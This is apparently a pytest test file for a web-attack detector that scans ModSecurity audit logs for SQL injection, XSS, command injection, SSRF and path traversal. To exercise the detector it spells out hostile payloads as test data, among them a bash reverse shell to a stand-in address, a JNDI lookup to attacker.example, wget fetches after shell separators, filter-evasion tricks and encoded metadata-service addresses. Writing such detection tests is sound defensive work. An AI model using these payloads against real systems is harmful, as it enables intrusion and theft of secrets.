"""Detection of payloads where access logs alone would miss them: bodies and
headers a ModSecurity audit log carries, SQL shapes libinjection leaves, shell
commands behind evasions, internal addresses however spelled. Payloads are
generated here from their parts, never taken from an attack corpus."""

from __future__ import annotations

import io
import ipaddress
import itertools
import json
import random
from urllib.parse import quote

import pytest

from shieldwall.runtime import reader
from shieldwall.runtime.detect.body import body_values
from shieldwall.runtime.detect.decode import decode
from shieldwall.runtime.detect.payload import PayloadDetector
from shieldwall.runtime.detect.shell import shell_command
from shieldwall.runtime.detect.sql import sql_shape
from shieldwall.runtime.detect.ssrf import internal_url
from shieldwall.runtime.events import HttpEvent
from shieldwall.runtime.sources.json_logs import parse_modsecurity_json
from tests.runtime.payloads import payload_kinds

_kinds = payload_kinds


def _modsec(headers: dict[str, str], body: str = "", uri: str = "/post") -> HttpEvent:
    line = json.dumps(
        {
            "transaction": {
                "client_ip": "203.0.113.9",
                "time_stamp": "Thu Dec  3 10:15:02 2026",
                "request": {"method": "POST", "uri": uri, "headers": headers, "body": body},
                "response": {"http_code": 200},
            }
        }
    )
    event = parse_modsecurity_json(line)
    assert event is not None
    return event


# --- bodies and headers ------------------------------------------------------------


def test_body_values_reads_json_keys_and_nested_strings() -> None:
    body = json.dumps({"user": {"tags": ["a", "x' or 'a'='a"]}, "odd key()": 1})
    values = body_values(body, "application/json")
    assert "x' or 'a'='a" in values
    assert "odd key()" in values
    assert "a" in values


def test_body_values_reads_multipart_fields_and_file_names() -> None:
    boundary = "----form" + "".join(random.Random(1).choices("abcdef0123", k=12))
    body = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; '
        f'filename="../../x.txt"\r\nContent-Type: text/plain\r\n\r\nhello\r\n'
        f'--{boundary}\r\nContent-Disposition: form-data; name="note"\r\n\r\n'
        f"<svg onload=alert(1)>\r\n--{boundary}--\r\n"
    )
    values = body_values(body, f"multipart/form-data; boundary={boundary}")
    assert "../../x.txt" in values
    assert "<svg onload=alert(1)>" in values


def test_body_values_reads_xml_attributes_and_text_not_the_tags() -> None:
    body = (
        '<?xml version="1.0"?><root><a probe="1 union select 2"></a><b>text &amp; more</b></root>'
    )
    values = body_values(body, "application/xml")
    assert "1 union select 2" in values
    assert "text & more" in values
    assert not any(v.startswith("<") for v in values)


def test_an_xml_body_is_not_taken_for_xss_by_its_tags() -> None:
    event = _modsec({"Content-Type": "text/xml"}, '<?xml version="1.0"?><order><id>7</id></order>')
    assert not {h.kind for h in PayloadDetector().scan(event)}


@pytest.mark.parametrize(
    ("where", "payload", "kind"),
    [
        ("cookie", "1' union select password from users--", "sqli"),
        ("cookie", "${jndi:ldap://attacker.example/a}", "jndi"),
        ("header", "() { :; }; /bin/cat /etc/hosts", "cmdi"),
        ("header", "<script>alert(document.domain)</script>", "xss"),
        ("user-agent", quote("1' and sleep(5)-- -"), "sqli"),
    ],
)
def test_payloads_in_cookies_and_other_logged_headers_are_found(
    where: str, payload: str, kind: str
) -> None:
    if where == "cookie":
        headers = {"Cookie": f"theme=dark; session={quote(payload)}; lang=en"}
    elif where == "header":
        headers = {"X-Custom-Trace": payload}
    else:
        headers = {"User-Agent": payload}
    event = _modsec(headers)
    assert kind in {h.kind for h in PayloadDetector().scan(event)}


def test_quiet_headers_and_plain_cookies_raise_nothing() -> None:
    event = _modsec(
        {
            "Accept": "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
            "Accept-Language": "en-GB,en;q=0.5",
            "Cookie": "theme=dark; cart=3; seen_banner=1",
            "X-Request-Id": "7f9c2ba4-e88f-4a1b-9c1d-2b8f1f6b1c11",
        },
        "name=Ann+O%27Neil&comment=Great+shoes%2C+fits+well",
    )
    assert PayloadDetector().scan(event) == []


# --- decoding ---------------------------------------------------------------------


@pytest.mark.parametrize("entity", ["&Tab;", "&tab;", "&TAB;", "&NewLine;", "&newline;"])
def test_named_entities_are_decoded_in_any_case(entity: str) -> None:
    assert decode(f"a{entity}b") in ("a\tb", "a\nb")


def test_fullwidth_forms_are_folded_to_ascii() -> None:
    fullwidth = "".join(chr(ord(c) + 0xFEE0) for c in "<script>")
    assert decode(fullwidth) == "<script>"


def test_javascript_url_split_by_entities_is_xss() -> None:
    word = "javascript:"
    for cut in range(1, len(word) - 1):
        split = word[:cut] + "&tab;" + word[cut:]
        assert "xss" in _kinds(query="next=" + quote(split + "alert(1)")), split


# --- SQL shapes -------------------------------------------------------------------

_QUOTES = ["'", '"', "\u2019"]
_TAILS = [
    " or 'a'='a",
    " and 1=1--",
    ";drop table users",
    " union select null,null--",
    ") or sleep(3)#",
    " having 1=1--",
    "; select pg_sleep(5)--",
]


@pytest.mark.parametrize(("quote_char", "tail"), list(itertools.product(_QUOTES, _TAILS)))
def test_a_quote_breaking_out_into_sql_is_found(quote_char: str, tail: str) -> None:
    payload = f"admin{quote_char}{tail.replace(chr(39), quote_char)}"
    assert sql_shape(payload.lower()), payload
    assert "sqli" in _kinds(method="POST", body="user=" + quote(payload))


@pytest.mark.parametrize(
    "text",
    [
        "information_schema.tables",
        "benchmark(5000000,md5(1))",
        "waitfor delay '0:0:5'",
        "select/**/count(*)/**/from/**/users",
        "1 into outfile '/tmp/x'",
        "exec master..xp_cmdshell 'dir'",
    ],
)
def test_words_only_sql_has_are_found(text: str) -> None:
    assert sql_shape(text)


@pytest.mark.parametrize(
    "text",
    [
        "o'reilly and sons",
        "rock 'n' roll",
        "select a size",
        "don't or won't",
        "union station to grand central",
        "order by price",
        "time (local)",
    ],
)
def test_ordinary_text_is_not_sql(text: str) -> None:
    assert not sql_shape(text)


# --- shell commands ---------------------------------------------------------------

_SEPARATORS = [";", "|", "||", "&&", "\n", "`", "$("]
_COMMANDS = ["id", "whoami", "cat /etc/hosts", "uname -a", "wget http://x.example/s", "ls -la"]


@pytest.mark.parametrize(("separator", "command"), list(itertools.product(_SEPARATORS, _COMMANDS)))
def test_a_command_after_a_separator_is_cmdi(separator: str, command: str) -> None:
    closing = "`" if separator == "`" else ")" if separator == "$(" else ""
    payload = f"127.0.0.1{separator}{command}{closing}"
    assert shell_command(payload.lower()), payload
    assert "cmdi" in _kinds(query="host=" + quote(payload))


def _evasions(word: str) -> list[str]:
    middle = len(word) // 2
    return [
        word[:middle] + "'" + word[middle:] + "'",
        word[:middle] + '""' + word[middle:],
        word[:middle] + "\\" + word[middle:],
        word[:middle] + "$@" + word[middle:],
        word + "${IFS}/etc/passwd",
    ]


@pytest.mark.parametrize("payload", [e for w in ("cat", "whoami", "uname") for e in _evasions(w)])
def test_quotes_and_empty_variables_inside_a_command_do_not_hide_it(payload: str) -> None:
    assert shell_command(f";{payload}".lower()), payload


@pytest.mark.parametrize(
    "payload",
    [
        "/e?c/pa??wd",
        "/etc/pa[s]swd",
        "/etc/[!q]asswd",
        "/usr/bin/[w]hoami",
        "for /f %a in (users.txt) do echo %a",
        "if exist c:\\boot.ini echo found",
        "\r\nrcpt to:<root@localhost>",
        "{cat,/etc/passwd}",
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "whoami;id",
    ],
)
def test_globs_batch_syntax_and_mail_commands_are_cmdi(payload: str) -> None:
    assert shell_command(payload.lower()), payload


@pytest.mark.parametrize(
    "text",
    [
        "tom & jerry",
        "cat food",
        "find a hotel",
        "red shoes & time",
        "salt & pepper; more",
        "black & white",
        "the id of my order",
        "please call me at noon",
    ],
)
def test_ordinary_text_is_not_a_command(text: str) -> None:
    assert not shell_command(text)


# --- SSRF -------------------------------------------------------------------------


def _spellings(address: str) -> list[str]:
    ip = ipaddress.IPv4Address(address)
    octets = [int(o) for o in address.split(".")]
    value = int(ip)
    return [
        address,
        str(value),
        hex(value),
        ".".join(hex(o) for o in octets),
        ".".join("0" + oct(o)[2:] for o in octets),
        f"{octets[0]}.{value & 0xFFFFFF}",
        f"[::ffff:{address}]",
    ]


@pytest.mark.parametrize(
    "spelled",
    [s for a in ("127.0.0.1", "169.254.169.254", "10.1.2.3") for s in _spellings(a)],
)
def test_internal_addresses_are_ssrf_however_spelled(spelled: str) -> None:
    assert internal_url(f"http://{spelled}/latest/meta-data/"), spelled
    assert "ssrf" in _kinds(query="url=" + quote(f"http://{spelled}/"))


@pytest.mark.parametrize(
    "url",
    ["https://example.com/a", "http://93.184.215.14/", "https://8.8.8.8/", "page:2", "ratio:1.5"],
)
def test_public_addresses_and_colons_are_not_ssrf(url: str) -> None:
    assert not internal_url(url)


# --- traversal ----------------------------------------------------------------------


def test_a_path_like_value_going_up_is_traversal_but_a_search_about_it_is_not() -> None:
    assert "path-traversal" in _kinds(query="file=" + quote("../config/app.yml"))
    assert "path-traversal" not in _kinds(query="q=" + quote("../ (dot dot slash) explained"))


@pytest.mark.parametrize("target", ["/root/.ssh/id_rsa", "/etc/sudoers", "/var/log/auth.log"])
def test_files_only_an_intruder_reads_are_traversal(target: str) -> None:
    assert "path-traversal" in _kinds(query="f=" + quote(target))


# --- reading a block at a time ------------------------------------------------------


def test_block_lines_gives_the_same_lines_as_lines(monkeypatch: pytest.MonkeyPatch) -> None:
    rng = random.Random(5)
    monkeypatch.setattr(reader, "MAX_LINE", 64)
    monkeypatch.setattr(reader, "BLOCK", 50)
    parts = []
    for _ in range(300):
        size = rng.choice([0, 1, 10, 40, 63, 64, 65, 200])
        parts.append(bytes(rng.choice(b"abc \t\xff") for _ in range(size)))
    for ending in (b"", b"\n"):
        data = b"\n".join(parts) + ending
        expected = list(reader.lines(io.BytesIO(data)))
        assert list(reader.block_lines(io.BytesIO(data))) == expected


def test_windows_conditionals_in_plain_words_are_cmdi() -> None:
    for condition in ("exist c:\\boot.ini", "not defined token", "errorlevel 1"):
        assert "cmdi" in _kinds(query="x=" + quote(f"if {condition} echo done"))


@pytest.mark.parametrize(
    "sentence",
    [
        f"{a}{sep} {b} {c}"
        for a, sep, b, c in [
            ("a hero", ";", "more", "than"),
            ("size 42", ";", "type", "leather"),
            ("call me", "|", "head", "office"),
            ("red & blue", ";", "tail", "lights"),
        ]
    ],
)
def test_sentences_with_separators_and_command_like_words_raise_nothing(sentence: str) -> None:
    assert _kinds(query="q=" + quote(sentence)) == set()


@pytest.mark.parametrize(
    "address",
    ["1.2.3.4", "01.2.3.4", "256.1.1.1", "1.2.3", " 9.9.9.9 ", "::ffff:1.2.3.4", "fe80::1"],
)
def test_the_fast_ipv4_path_gives_the_same_key_as_the_parser(address: str) -> None:
    from shieldwall.runtime.clients import client_key

    try:
        ip = ipaddress.ip_address(address.strip())
    except ValueError:
        expected = ""
    else:
        if isinstance(ip, ipaddress.IPv6Address):
            mapped = ip.ipv4_mapped
            expected = str(mapped) if mapped else str(ipaddress.ip_network(f"{ip}/64", False))
        else:
            expected = str(ip)
    assert client_key(address) == expected


def test_a_body_that_only_starts_like_multipart_is_judged_as_text() -> None:
    assert "xss" in _kinds(method="POST", body="--><svg/onload=alert(1)>=1")
    assert "sqli" in _kinds(method="POST", body="--'or 1=1--")
    assert _kinds(method="POST", body="--\nregards, Ann") == set()
